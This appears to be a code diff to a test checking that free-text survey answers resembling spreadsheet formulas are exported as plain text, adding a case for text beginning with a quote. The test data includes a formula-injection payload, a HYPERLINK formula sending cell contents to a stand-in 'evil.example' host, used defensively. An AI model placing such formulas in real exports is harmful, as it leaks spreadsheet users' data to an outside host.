@@ -175,6 +175,7 @@ def test_free_text_that_looks_like_a_formula_is_exported_as_text(study: Study, c
         "alice@example.org": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
         "bob@example.org": "+1 and more, plainly",
         "carol@example.org": "A remark with = inside",
+        "dan@example.org": "'quoted from the start",
     }
     topic = Topic.objects.get(code="bci")
     for email, text in typed.items():
@@ -189,4 +190,5 @@ def test_free_text_that_looks_like_a_formula_is_exported_as_text(study: Study, c
         "'" + typed["alice@example.org"],
         "'" + typed["bob@example.org"],
         typed["carol@example.org"],
+        "'" + typed["dan@example.org"],  # so that removing one leading quote always gives what was typed
     }
